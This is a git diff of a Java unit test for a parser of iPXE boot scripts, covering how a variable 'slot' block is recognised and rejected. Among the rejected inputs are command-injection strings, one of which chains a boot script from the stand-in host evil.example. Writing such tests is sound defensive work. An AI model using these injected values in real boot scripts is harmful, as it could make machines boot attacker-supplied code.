@@ -1,4 +1,4 @@
-package org.bootmirror.script;
+package org.bootmirror.inspect;
 
 import static org.assertj.core.api.Assertions.assertThat;
 
@@ -6,6 +6,8 @@ import java.util.List;
 import java.util.Optional;
 import org.bootmirror.content.SlottedText;
 import org.bootmirror.overlay.SlotVariables;
+import org.bootmirror.script.BaseUrl;
+import org.bootmirror.script.EmbeddedScript;
 import org.bootmirror.template.Templates;
 import org.junit.jupiter.api.Test;
 import org.junit.jupiter.params.ParameterizedTest;
@@ -27,7 +29,7 @@ final class ParsedScriptTest {
 
     ParsedScript reading = ParsedScript.of(script.text());
 
-    assertThat(reading.slot()).isTrue();
+    assertThat(reading.slot().orElseThrow().variables()).isEqualTo(VARIABLES);
     assertThat(reading.network()).contains("prod");
     assertThat(reading.variables())
         .containsEntry("base-1", "https://boot.example")
@@ -40,29 +42,47 @@ final class ParsedScriptTest {
     ParsedScript reading =
         ParsedScript.of("#!ipxe\n# mine\nset farmer-id 7\nset empty\ndhcp\nset later x\n");
 
-    assertThat(reading.slot()).isFalse();
+    assertThat(reading.slot()).isEmpty();
     assertThat(reading.network()).isEmpty();
     assertThat(reading.variables()).containsEntry("farmer-id", "7").containsEntry("empty", "");
     assertThat(reading.variables()).hasSize(2);
   }
 
+  @Test
+  void theSlotOfAnOlderImageIsRead() {
+    ParsedScript reading = ParsedScript.of("#!ipxe\n" + VARIABLES.block(1024) + "dhcp\n");
+
+    assertThat(reading.slot().orElseThrow().characters()).isEqualTo(1024);
+    assertThat(reading.variables()).containsEntry("farmer-id", "42");
+  }
+
+  @Test
+  void aBlockOfAnotherSizeIsNoSlot() {
+    ParsedScript reading = ParsedScript.of("#!ipxe\n" + VARIABLES.block(1023) + "dhcp\n");
+
+    assertThat(reading.slot()).isEmpty();
+    assertThat(reading.refusal().orElse("")).startsWith("wrong-size: found a block of 1023");
+    assertThat(reading.variables()).containsEntry("farmer-id", "42");
+  }
+
   @ParameterizedTest
   @ValueSource(
       strings = {
-        "set base-1 x\nreboot\n",
+        "set base-1 http://x\nreboot\n",
+        "set network other\n",
         "#\nset farmer-id 666\n",
         "set farmer-id:string 666\n",
-        "set a b && chain http://evil.example\n",
-        "set a b || reboot\n",
-        "set a b ; reboot\n",
+        "set extra b && chain http://evil.example\n",
+        "set extra b || reboot\n",
+        "set extra b ; reboot\n",
         "set  farmer-id 666\n",
         "set farmer-id\t666\n",
         "set farmer-id\n"
       })
   void aBlockThatHoldsMoreThanVariablesIsNoSlot(String lines) {
-    String block = lines + "#".repeat(1023 - lines.length()) + "\n";
+    String block = lines + "#".repeat(4095 - lines.length()) + "\n";
 
-    assertThat(ParsedScript.of("#!ipxe\n" + block + "\n").slot()).isFalse();
+    assertThat(ParsedScript.of("#!ipxe\n" + block + "\n").slot()).isEmpty();
   }
 
   @ParameterizedTest
@@ -82,7 +102,7 @@ final class ParsedScriptTest {
 
     assertThat(ParsedScript.of(script.text()).setAgain()).isEmpty();
     ParsedScript changed = ParsedScript.of(script.text() + line + "\n");
-    assertThat(changed.slot()).isTrue();
+    assertThat(changed.slot()).isPresent();
     assertThat(changed.setAgain()).containsExactly("farmer-id");
   }
 
